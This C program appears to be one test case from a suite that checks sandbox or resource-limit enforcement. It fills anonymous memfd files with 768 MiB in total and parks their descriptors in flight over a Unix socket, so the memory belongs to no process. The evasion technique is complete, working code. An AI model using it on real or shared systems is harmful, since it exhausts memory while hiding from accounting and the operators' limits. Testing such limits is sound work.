/* Keeps memory where no process has it: in files without a name that are on their way over a socket. */
#include "attack.h"

enum { FILES = 24, EACH = 32 << 20, PIECE = 1 << 20 };

static int send_away(int over, int file)
{
    char byte = 0, room[CMSG_SPACE(sizeof file)];
    struct iovec text = {&byte, 1};
    struct msghdr message = {
        .msg_iov = &text, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    rights->cmsg_level = SOL_SOCKET;
    rights->cmsg_type = SCM_RIGHTS;
    rights->cmsg_len = CMSG_LEN(sizeof file);
    memcpy(CMSG_DATA(rights), &file, sizeof file);
    return sendmsg(over, &message, 0) == 1 && close(file) == 0;
}

int main(void)
{
    static char piece[PIECE];
    int pair[2], kept = 0;
    memset(piece, 1, sizeof piece);
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0)
        return 1;
    for (int number = 0; number < FILES; number++) {
        /* A piece at a time: what has been written is out of sight before anybody looks. */
        int file = memfd_create("hidden", 0), written = 0;
        while (written < EACH && write(file, piece, PIECE) == PIECE)
            written += PIECE;
        kept += written == EACH && send_away(pair[0], file);
    }
    tried("memory in flight", kept == FILES);
    return 0;
}
